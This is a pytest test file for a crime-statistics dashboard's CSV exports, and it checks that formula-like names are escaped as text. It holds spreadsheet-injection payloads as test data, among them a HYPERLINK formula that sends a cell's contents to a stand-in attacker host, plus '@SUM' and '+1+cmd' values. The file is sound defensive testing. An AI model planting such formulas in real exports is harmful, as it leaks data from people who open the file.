"""The dashboards' CSVs (year to date, family group) write a name that looks like a
formula as text, and a fall in crime stays a negative number."""

import csv
import io

import pytest

from csp_portal.financial_year import FinancialYear, Quarter
from performance.family import family_group_for
from performance.models import CrimeCategory, FamilyGroupMember, PeerFigure
from tests.performance.factories import enter_ytd

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
Q2 = Quarter(FinancialYear(2022), 2)


def _csv(client, url) -> list[dict[str, str]]:
    response = client.get(url)
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_a_category_named_as_a_formula_is_text_in_the_ytd_csv(
    client_for, board_member, partnership
):
    category = CrimeCategory.objects.create(partnership=partnership, code="X", name=FORMULA)
    enter_ytd(partnership, category, Q2.same_quarter_last_year, 40)
    enter_ytd(partnership, category, Q2, 30)
    rows = _csv(
        client_for(board_member), "/p/charnwood/performance/?year=2022&quarter=2&format=csv"
    )
    (row,) = rows
    assert row["category"] == "'" + FORMULA
    assert row["difference"] == "-10"  # a fall is a number, not a formula
    assert float(row["change_pct"]) == -25.0


def test_a_peer_named_as_a_formula_is_text_in_the_family_group_csv(
    client_for, board_member, partnership, categories
):
    group = family_group_for(partnership)
    peer = FamilyGroupMember.objects.create(family_group=group, csp_name="@SUM(A1:A9)")
    PeerFigure.objects.create(
        member=peer,
        financial_year=FinancialYear(2022),
        quarter=2,
        category=categories["ALL"],
        count=100,
        population=50_000,
    )
    rows = _csv(
        client_for(board_member),
        f"/p/charnwood/performance/family/?category={categories['ALL'].pk}"
        "&year=2022&quarter=2&format=csv",
    )
    assert [row["csp"] for row in rows] == ["'@SUM(A1:A9)"]
    assert rows[0]["count"] == "100"


def test_the_performance_report_command_writes_safe_csv(partnership):
    from io import StringIO

    from django.core.management import call_command

    category = CrimeCategory.objects.create(partnership=partnership, code="X", name="+1+cmd")
    enter_ytd(partnership, category, Q2.same_quarter_last_year, 20)
    enter_ytd(partnership, category, Q2, 10)
    out = StringIO()
    call_command(
        "performance_report",
        "--partnership", partnership.slug, "--year", "2022/23", "--quarter", "2",
        "--format", "csv", stdout=out,
    )  # fmt: skip
    assert "'+1+cmd,20,10,-10,-50.0,,Grey,no" in out.getvalue().splitlines()
